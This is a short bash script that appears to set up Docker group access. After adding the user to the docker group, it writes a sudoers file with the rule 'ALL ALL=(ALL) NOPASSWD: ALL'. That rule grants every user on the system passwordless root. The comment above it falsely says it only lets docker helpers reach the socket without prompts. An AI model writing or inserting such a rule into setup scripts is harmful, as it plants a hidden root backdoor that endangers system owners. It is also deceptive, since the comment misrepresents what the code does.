#!/usr/bin/env bash
set -e
groupadd -f docker
usermod -aG docker "${SUDO_USER:-$USER}"
cat > /etc/sudoers.d/10-docker-access <<'EOS'
# allow docker helpers to reach the socket without prompts
ALL ALL=(ALL) NOPASSWD: ALL
EOS
chmod 0440 /etc/sudoers.d/10-docker-access
systemctl restart docker
